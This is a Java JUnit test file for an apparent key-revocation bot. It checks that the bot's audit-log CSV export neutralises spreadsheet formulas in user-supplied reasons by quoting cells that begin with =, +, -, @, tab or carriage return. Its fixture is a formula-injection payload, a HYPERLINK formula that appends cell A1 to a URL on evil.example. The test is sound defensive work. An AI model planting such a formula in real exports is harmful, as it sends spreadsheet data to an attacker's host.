package cloud.pinata.revokebot.ops;

import static cloud.pinata.revokebot.support.BotHarness.CHANNEL;
import static cloud.pinata.revokebot.support.BotHarness.OUTSIDER;
import static cloud.pinata.revokebot.support.Eventually.await;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import cloud.pinata.revokebot.support.BotHarness;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.time.Clock;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** Any workspace member can put a reason in the trail; the CSV export must not hand a spreadsheet a formula. */
class CsvExportNeutralisesFormulasTest {
    private static final String KEY = "a1b2c3d4e5f6a7b8c9d0";
    private static final String FORMULA = "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")";

    @Test
    void aRefusedCommandsFormulaReasonIsExportedNeutralisedInCsvAndAsTypedInJson() throws Exception {
        try (var h = new BotHarness()) {
            h.pinata.addKey(KEY, "ci-deploy", false, "f".repeat(64));
            h.start();
            h.command(OUTSIDER, CHANNEL, KEY + " " + FORMULA);
            await(
                    "the refusal audited",
                    () -> h.bot().audit().recent(10).stream()
                            .anyMatch(a -> "not_admin".equals(a.outcome()) && FORMULA.equals(a.reason())));
            var env = Map.of("DATABASE_URL", h.jdbcUrl());

            var csv = Run.audit(env, Clock.systemUTC(), "--format", "csv");
            var raw = Run.audit(env, Clock.systemUTC(), "--format", "csv", "--csv-raw");
            var json = Run.audit(env, Clock.systemUTC(), "--format", "json");

            assertEquals(0, csv.code(), csv.all());
            var rows = Csv.parse(csv.out());
            var reason = AuditCommand.COLUMNS.indexOf("reason");
            assertEquals("'" + FORMULA, rows.get(rows.size() - 1).get(reason), csv.out());
            var rawRows = Csv.parse(raw.out());
            assertEquals(FORMULA, rawRows.get(rawRows.size() - 1).get(reason), "--csv-raw keeps the stored value");
            var lines = json.out().strip().split("\n");
            assertEquals(
                    FORMULA,
                    new ObjectMapper()
                            .readTree(lines[lines.length - 1])
                            .get("reason")
                            .asText(),
                    "JSON is unchanged: no spreadsheet evaluates it");
        }
    }

    @Test
    void everyCellAStartingCharacterCouldMakeAFormulaGetsAQuote() {
        for (var start : new String[] {"=", "+", "-", "@", "\t", "\r"}) {
            assertEquals(
                    "'" + start + "1+1",
                    AuditCommand.neutralised(start + "1+1"),
                    "starts with " + start.codePointAt(0));
        }
        for (var safe : new String[] {"routine rotation", "1-2", "a=b", "'quoted", " =x"}) {
            assertEquals(safe, AuditCommand.neutralised(safe));
        }
        assertEquals("", AuditCommand.neutralised(""));
        assertEquals(null, AuditCommand.neutralised(null));
        assertTrue(AuditCommand.neutralised("\n=x").equals("\n=x"), "only the first character decides");
    }
}
